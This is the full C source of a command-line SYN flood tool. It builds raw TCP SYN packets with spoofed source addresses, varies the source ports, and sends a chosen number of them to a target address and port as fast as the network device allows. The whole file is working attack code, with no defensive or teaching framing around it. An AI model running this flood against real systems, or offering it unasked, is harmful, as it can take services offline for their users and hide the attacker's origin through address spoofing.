// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * synflood SOURCE TARGET PORT N: sends N SYNs, from N different ports and 32
 * addresses from SOURCE on. Nobody has these addresses, so nobody answers what
 * the target says. As fast as the device takes them.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
};

static uint32_t add(uint32_t sum, const void *data, size_t len)
{
	const uint8_t *p = data;
	size_t i;

	for (i = 0; i < len; i += 2)
		sum += p[i] << 8 | p[i + 1];
	return sum;
}

/* What a pseudo header and a TCP header sum up to (RFC 9293 3.1). */
static uint16_t tcp_sum(const struct packet *p)
{
	uint32_t sum = IPPROTO_TCP + sizeof(p->tcp);

	sum = add(sum, &p->ip.saddr, 2 * sizeof(p->ip.saddr));
	sum = add(sum, &p->tcp, sizeof(p->tcp));
	sum = (sum & 0xffff) + (sum >> 16);
	sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum);
}

/* The kernel fills in the rest of the IP header. */
static void make(struct packet *p, in_addr_t from, unsigned int i)
{
	p->ip.saddr = htonl(ntohl(from) + i % 32);
	p->tcp.source = htons(1024 + i % 60000);
	p->tcp.seq = htonl(i * 2654435761U);
	p->tcp.check = 0;
	p->tcp.check = tcp_sum(p);
}

int main(int argc, char **argv)
{
	struct packet p = {
		.ip = { .version = 4, .ihl = 5, .ttl = 64,
			.protocol = IPPROTO_TCP },
		.tcp = { .doff = 5, .syn = 1 },
	};
	struct sockaddr_in to = { .sin_family = AF_INET };
	in_addr_t from;
	unsigned int i, n, sent = 0;
	int fd;

	if (argc != 5 || inet_pton(AF_INET, argv[1], &from) != 1 ||
	    inet_pton(AF_INET, argv[2], &to.sin_addr) != 1) {
		fputs("synflood SOURCE TARGET PORT N\n", stderr);
		return 2;
	}
	p.ip.daddr = to.sin_addr.s_addr;
	p.tcp.dest = htons(atoi(argv[3]));
	p.tcp.window = htons(65535);
	n = atoi(argv[4]);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("socket");
		return 1;
	}
	for (i = 0; i < n; i++) {
		make(&p, from, i);
		sent += sendto(fd, &p, sizeof(p), 0, (struct sockaddr *)&to,
			       sizeof(to)) == sizeof(p);
	}
	printf("%u sent\n", sent);
	return sent != n;
}
